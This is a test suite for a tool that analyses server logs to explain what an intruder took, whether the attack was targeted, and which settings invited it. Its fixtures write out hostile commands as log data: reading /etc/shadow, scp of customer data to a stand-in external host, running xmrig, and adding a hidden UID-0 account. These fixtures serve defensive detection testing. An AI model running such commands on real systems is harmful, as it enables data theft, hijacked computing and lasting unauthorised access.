import { describe, expect, test } from 'vitest';
import { investigateFiles, LogWriter } from '../../test/scenario.ts';
import type { Story } from './story.ts';
import type { Motive } from './tracks.ts';

const of = ({ motives }: Story, title: string): Motive | undefined => motives.find((one) => one.title === title);
const titles = ({ motives }: Story, kind: Motive['kind']) =>
  motives.filter((one) => one.kind === kind).map(({ title }) => title);

/** Days in which people log in by key, from the same places. */
function quietDays(log: LogWriter, days = 3): LogWriter {
  for (let day = 0; day < days; day += 1)
    log
      .life(30)
      .enters('192.0.2.10', 'anna', 900 + day, 'publickey')
      .sudo('anna', '/usr/bin/apt update')
      .leaves('anna', 900 + day)
      .wait(80_000);
  return log;
}

function access(lines: readonly (readonly [address: string, request: string, status: number])[]): string {
  const stamp = (at: number) =>
    `20/May/2026:08:${String(Math.floor(at / 60)).padStart(2, '0')}:${String(at % 60).padStart(2, '0')} +0000`;
  return `${lines.map(([address, request, status], at) => `${address} - - [${stamp(at)}] "${request} HTTP/1.1" ${status} 512 "-" "curl/8.0"`).join('\n')}\n`;
}

/** Files of a machine that nobody attacks. */
const quiet = () => ({ 'web1/auth.log': quietDays(new LogWriter('web1', '2026-05-15T06:00:00Z')).text() });

/** A guessed password of an account that no list holds; then data, secrets, a miner. */
function breached() {
  const log = quietDays(new LogWriter('web1', '2026-05-15T06:00:00Z'));
  log.fails('203.0.113.7', 'svc-batch7', 4000, 14).enters('203.0.113.7', 'svc-batch7', 4100);
  log.sudo('svc-batch7', '/usr/bin/cat /etc/shadow');
  log.sudo('svc-batch7', '/usr/bin/cat /srv/orders/2026.csv');
  log.sudo('svc-batch7', '/usr/bin/scp /srv/orders/2026.csv drop@198.51.100.99:/in/');
  log.sudo('svc-batch7', '/tmp/xmrig -o pool.c3pool.com:443');
  log.sudo('svc-batch7', '/usr/sbin/useradd -o -u 0 ghost');
  return log.leaves('svc-batch7', 4100);
}

describe('why you', () => {
  test('a quiet machine has no answer, for nobody asked', async () => {
    expect((await investigateFiles(quiet())).motives).toEqual([]);
  });

  test('what was sought is told from what was done', async () => {
    const story = await investigateFiles({ 'web1/auth.log': breached().text() });
    expect(titles(story, 'sought')).toEqual([
      'Accounts that they got into',
      'Data taken out',
      'Files with data read',
      'Passwords, keys and other secrets',
      'A way on to other hosts',
      'Computing power, for a coin miner',
      'To come back later',
      'Accounts to log in to',
    ]);
    expect(of(story, 'Accounts that they got into')?.detail).toBe('svc-batch7 on web1');
    expect(of(story, 'Files with data read')?.detail).toContain('/srv/orders/2026.csv');
    expect(of(story, 'Files with data read')?.evidence[0]?.raw).toContain('2026.csv');
  });

  test('work of administrators is not what intruders sought', async () => {
    const log = breached();
    log
      .enters('192.0.2.10', 'anna', 950, 'publickey')
      .sudo('anna', '/usr/bin/mysqldump --all-databases')
      .leaves('anna', 950);
    const story = await investigateFiles({ 'web1/auth.log': log.text() });
    expect(titles(story, 'sought')).not.toContain('Databases read');
  });

  test('every claim has a line, a host and a number', async () => {
    const story = await investigateFiles({ 'web1/auth.log': breached().text() });
    expect(story.motives.length).toBeGreaterThan(8);
    for (const { title, detail, evidence, hosts, count } of story.motives) {
      expect([title, evidence.length > 0, hosts, count > 0, detail !== '']).toEqual([
        title,
        true,
        ['web1'],
        true,
        true,
      ]);
      expect(evidence.length).toBeLessThanOrEqual(5);
    }
  });
});

describe('aimed or not', () => {
  const aims = (story: Story) => titles(story, 'aim');

  test('one particular name, few tries: aimed', async () => {
    const story = await investigateFiles({ 'web1/auth.log': breached().text() });
    const aim = of(story, 'The intruder: aimed at you');
    expect(aim?.detail).toBe(
      'the only name tried was svc-batch7, which stands in no common list and exists here; it took only 14 tries',
    );
    expect(aim?.confidence).toBe('medium');
  });

  test('default names from a list: after anybody', async () => {
    const log = quietDays(new LogWriter('web1', '2026-05-15T06:00:00Z'));
    for (const name of ['admin', 'oracle', 'ubuntu', 'postgres', 'guest', 'pi', 'test'])
      log.fails('203.0.113.7', name, 4000, 3);
    log.enters('203.0.113.7', 'test', 4100).sudo('test', '/tmp/xmrig -o pool.c3pool.com:443');
    const story = await investigateFiles({ 'web1/auth.log': log.text() });
    expect(aims(story)).toEqual(['The intruder: after anybody']);
    expect(of(story, 'The intruder: after anybody')?.detail).toContain('test is a name that is tried everywhere');
  });

  test('a first name that fits after many tries: cannot tell', async () => {
    const log = quietDays(new LogWriter('web1', '2026-05-15T06:00:00Z'));
    log.fails('203.0.113.7', 'maria', 4000, 90).enters('203.0.113.7', 'maria', 4100);
    const story = await investigateFiles({ 'web1/auth.log': log.text() });
    expect(aims(story)).toEqual(['The intruder: aimed or by chance, cannot tell']);
  });

  test('those who never got in: after anybody, but who tries your own names is told apart', async () => {
    const log = quietDays(new LogWriter('web1.brimstone.example', '2026-05-15T06:00:00Z'));
    for (let last = 1; last <= 9; last += 1)
      for (const name of ['root', 'admin', 'oracle']) log.fails(`203.0.113.${last}`, name, 4000 + last, 2);
    log.fails('198.51.100.5', 'brimstone-backup', 5000, 4);
    const story = await investigateFiles({ 'web1/auth.log': log.text() });
    expect(aims(story)).toEqual(['Some others: aimed at you', 'The others: after anybody']);
    expect(of(story, 'Some others: aimed at you')).toMatchObject({ count: 1, confidence: 'low' });
    expect(of(story, 'Some others: aimed at you')?.detail).toContain('brimstone-backup');
    expect(of(story, 'The others: after anybody')?.detail).toBe(
      '9 of 9 addresses tried names or pages that are tried everywhere',
    );
  });
});

describe('what invited them', () => {
  test('a guessed password: passwords first, each with its mending', async () => {
    const story = await investigateFiles({ 'web1/auth.log': breached().text() });
    const invited = titles(story, 'invited');
    expect(invited[0]).toBe('Logins by password from outside');
    expect(invited).toContain('Accounts that were entered could be root by sudo');
    expect(invited).not.toContain('Root may log in');
    for (const { kind, mend } of story.motives) expect(mend !== '').toBe(kind === 'invited');
    expect(of(story, 'Logins by password from outside')?.mend).toContain('`PasswordAuthentication no`');
    expect(of(story, 'Logins by password from outside')?.evidence[0]?.raw).toContain('Accepted password');
  });

  test('keys only, and guesses that never could fit: it is said what the logs cannot say', async () => {
    const log = quietDays(new LogWriter('web1', '2026-05-15T06:00:00Z'));
    log.fails('203.0.113.7', 'root', 4000, 80);
    const story = await investigateFiles({ 'web1/auth.log': log.text() });
    expect(titles(story, 'invited')).toEqual([
      'Passwords may be tried from outside',
      'Nothing limits how often one address may try',
    ]);
    expect(of(story, 'Passwords may be tried from outside')?.confidence).toBe('medium');
  });

  test('root by password', async () => {
    const log = quietDays(new LogWriter('web1', '2026-05-15T06:00:00Z'));
    log.fails('203.0.113.7', 'root', 4000, 20).enters('203.0.113.7', 'root', 4100);
    const root = of(await investigateFiles({ 'web1/auth.log': log.text() }), 'Root may log in');
    expect(root).toMatchObject({ confidence: 'high', count: 1, hosts: ['web1'] });
    expect(root?.mend).toContain('`PermitRootLogin no`');
  });

  test('root by key from inside is no invitation', async () => {
    const log = quietDays(new LogWriter('web1', '2026-05-15T06:00:00Z'));
    log.enters('10.0.0.9', 'root', 4100, 'publickey').fails('203.0.113.7', 'admin', 4000, 20);
    expect(titles(await investigateFiles({ 'web1/auth.log': log.text() }), 'invited')).not.toContain('Root may log in');
  });

  test('an account with a default name', async () => {
    const log = quietDays(new LogWriter('web1', '2026-05-15T06:00:00Z'));
    log.fails('203.0.113.7', 'guest', 4000, 20).enters('203.0.113.7', 'guest', 4100);
    const story = await investigateFiles({ 'web1/auth.log': log.text() });
    expect(of(story, 'Accounts with names that are tried everywhere')?.detail).toMatch(/^guest: /);
  });

  test('a private key that an intruder read or used', async () => {
    const log = breached().wait(5);
    log
      .enters('203.0.113.7', 'svc-batch7', 4200)
      .sudo('svc-batch7', '/usr/bin/ssh -i /root/.ssh/backup_ed25519 root@10.0.0.3');
    const story = await investigateFiles({ 'web1/auth.log': log.text() });
    expect(of(story, 'Private keys lie on servers')).toMatchObject({ confidence: 'high', count: 1 });
    expect(
      of(await investigateFiles({ 'web1/auth.log': breached().text() }), 'Private keys lie on servers'),
    ).toBeUndefined();
  });

  test('administration pages that attackers were shown, and only those', async () => {
    const probes = ['/phpmyadmin/', '/.env', '/.git/config', '/wp-login.php', '/solr/', '/boaform/admin/formLogin'];
    const shown = access(
      probes.map(
        (path) => ['203.0.113.7', `GET ${path}`, path === '/phpmyadmin/' || path === '/.env' ? 200 : 404] as const,
      ),
    );
    const story = await investigateFiles({ 'web1/access.log': shown });
    expect(of(story, 'Administration pages open to everybody')?.detail).toBe(
      '/phpmyadmin/: shown to 1 address that attacked',
    );
    expect(of(story, 'Administration pages open to everybody')?.evidence[0]?.raw).toContain('/phpmyadmin/');
    expect(of(story, 'Secrets lie in the web root')?.detail).toContain('/.env');
    const sought = of(story, 'Holes in web applications')?.detail ?? '';
    expect(sought).toContain('secrets in files (.env) (1 address)');
    expect(sought).toContain('routers, cameras and other devices (1 address)');
  });

  test('a server that answers everything shows nothing by it', async () => {
    const paths = Array.from({ length: 30 }, (_, at) => (at % 2 === 0 ? '/phpmyadmin/' : `/.env.${at}`));
    const all = access(paths.map((path) => ['203.0.113.7', `GET ${path}`, 200] as const));
    expect(titles(await investigateFiles({ 'web1/access.log': all }), 'invited')).toEqual([]);
  });

  test('redirections to https show nothing', async () => {
    const all = access([
      ['203.0.113.7', 'GET /.env', 301],
      ['203.0.113.7', 'GET /phpmyadmin/', 301],
      ['203.0.113.7', 'GET /.git/config', 404],
      ['203.0.113.7', 'GET /wp-login.php', 404],
    ]);
    expect(titles(await investigateFiles({ 'web1/access.log': all }), 'invited')).toEqual([]);
  });

  test('old versions, by what the package manager installed last', async () => {
    const dpkg = [
      '2026-05-14 10:00:00 install openssh-server:amd64 <none> 1:7.2p2-4ubuntu2.10',
      '2026-05-14 10:00:01 install apache2:amd64 <none> 2.2.22-13',
      '2026-05-14 11:00:01 upgrade apache2:amd64 2.2.22-13 2.4.58-1',
    ];
    const files = { 'web1/auth.log': breached().text(), 'web1/dpkg.log': `${dpkg.join('\n')}\n` };
    const old = of(await investigateFiles(files), 'Old versions are in use');
    expect(old).toMatchObject({ count: 1, detail: 'OpenSSH 7.2 on web1' });
    expect(old?.evidence[0]?.raw).toBe(dpkg[0]);
  });
});
